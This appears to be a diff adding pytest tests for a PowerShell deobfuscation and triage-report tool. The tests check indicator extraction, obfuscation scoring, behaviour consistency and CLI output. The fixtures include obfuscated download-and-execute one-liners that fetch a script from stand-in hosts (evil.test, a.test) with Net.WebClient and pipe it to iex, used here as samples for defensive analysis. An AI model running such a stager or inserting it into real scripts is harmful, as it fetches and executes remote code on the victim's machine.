@@ -1,0 +1,68 @@
+"""Tests for the triage report (the composed analyst API)."""
+
+from repro import Deobfuscator
+from repro.analysis.report import build_report
+
+CASE = (
+    "$u = 'http://ev'+'il.test/x.ps1'\n"
+    "(New-Object Net.WebClient).DownloadString($u) | iex"
+)
+
+
+class TestBuildReport:
+    def test_full_loop(self):
+        report = build_report(CASE)
+        assert report.deobfuscation.changed
+        assert report.score_before.score > report.score_after.score
+        assert "http://evil.test/x.ps1" in report.key_info.urls
+        assert report.behavior_consistent
+        assert report.behavior_original.has_network_behavior
+
+    def test_indicators_sorted_and_flat(self):
+        report = build_report(CASE)
+        indicators = report.indicators()
+        assert "http://evil.test/x.ps1" in indicators
+        assert indicators == sorted(indicators[:len(report.key_info.urls)]) + indicators[len(report.key_info.urls):]
+
+    def test_score_reduction_bounds(self):
+        report = build_report(CASE)
+        assert 0.0 <= report.score_reduction <= 1.0
+
+    def test_clean_script_report(self):
+        report = build_report("Write-Host hello")
+        assert report.score_before.score == 0
+        assert report.score_reduction == 0.0
+        assert report.behavior_consistent
+
+    def test_render_contains_sections(self):
+        text = build_report(CASE).render()
+        assert "triage report" in text
+        assert "ioc: http://evil.test/x.ps1" in text
+        assert "behaviour preserved by deobfuscation: yes" in text
+        assert "deobfuscated script" in text
+
+    def test_custom_tool(self):
+        tool = Deobfuscator(rename=False)
+        report = build_report("$xqzw = 'a'+'b'", tool=tool)
+        assert "$xqzw" in report.deobfuscation.script
+
+    def test_responses_forwarded(self):
+        responses = {"http://a.test/1": "write-output 'stage2'"}
+        script = (
+            "iex ((New-Object Net.WebClient)"
+            ".DownloadString('http://a.test/1'))"
+        )
+        report = build_report(script, responses=responses)
+        assert report.behavior_consistent
+
+
+class TestCliReport:
+    def test_report_command(self, tmp_path, capsys):
+        from repro.cli import main
+
+        path = tmp_path / "s.ps1"
+        path.write_text(CASE)
+        code = main(["report", str(path)])
+        out = capsys.readouterr().out
+        assert code == 0
+        assert "triage report" in out
